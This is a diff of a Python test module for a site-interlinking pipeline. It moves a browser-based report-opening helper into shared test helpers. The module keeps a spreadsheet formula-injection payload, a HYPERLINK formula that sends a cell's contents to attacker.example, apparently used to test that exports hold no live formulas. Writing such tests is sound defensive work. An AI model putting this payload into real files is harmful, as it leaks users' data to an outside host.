@@ -3,8 +3,7 @@
 import dataclasses
 import html
 import re
-from contextlib import contextmanager
-from dataclasses import dataclass, field
+from dataclasses import dataclass
 from pathlib import Path
 
 import dagster as dg
@@ -21,7 +20,7 @@ from interlink_pipeline.core.publish import exports, report
 from interlink_pipeline.core.publish.publication import publish, read_manifest, staged_folder
 from interlink_pipeline.core.warehouse.vocabularies import PLAN_REASONS
 from interlink_pipeline.defs.writes import readable
-from interlink_pipeline_tests.helpers import LIGHT, chromium_path, register_lightchiropractic, run_site
+from interlink_pipeline_tests.helpers import LIGHT, opened, register_lightchiropractic, run_site
 
 INJECTED = '=HYPERLINK("http://attacker.example/?leak="&A1,"Back Pain")'
 TARGET_PAGE = "https://www.lightchiropractic.sg/treatment/lower-back-pain/"
@@ -61,42 +60,6 @@ def planned_site(crawls, encoder, tmp_path_factory):
         result = run_site(warehouse, inbox, instance, LIGHT)
         assert result.success
         yield PlannedSite(warehouse.parent / "exports" / LIGHT, warehouse, instance)
-
-
-@dataclass
-class OpenedReport:
-    page: object  # Playwright's Page
-    refused: list[str] = field(default_factory=list)  # requests off the file: none, it needs no network
-    dialogs: list[str] = field(default_factory=list)  # alert(), confirm(), prompt(): script that ran
-
-
-@contextmanager
-def opened(report: Path):
-    """The report in headless Chromium, its charts drawn, with every request other than the file refused."""
-    from playwright.sync_api import sync_playwright
-
-    with sync_playwright() as playwright:
-        browser = playwright.chromium.launch(executable_path=chromium_path(), args=["--no-sandbox"])
-        page = browser.new_page(viewport={"width": 1300, "height": 900})
-        report_page = OpenedReport(page)
-
-        def only_the_file(route):
-            if not route.request.url.startswith("file://"):
-                report_page.refused.append(route.request.url)
-                return route.abort()
-            return route.continue_()
-
-        def dismiss(dialog):
-            report_page.dialogs.append(dialog.message)
-            dialog.dismiss()
-
-        page.route("**/*", only_the_file)
-        page.on("dialog", dismiss)
-        page.goto(report.as_uri())
-        for chart in ("topic-map", "depth-chart", "health-chart", "hub-tree"):
-            page.wait_for_selector(f"#{chart} .main-svg", timeout=20_000)
-        yield report_page
-        browser.close()
 
 
 def test_exports_open_with_headers_fitted_columns_and_no_formulas(planned_site):
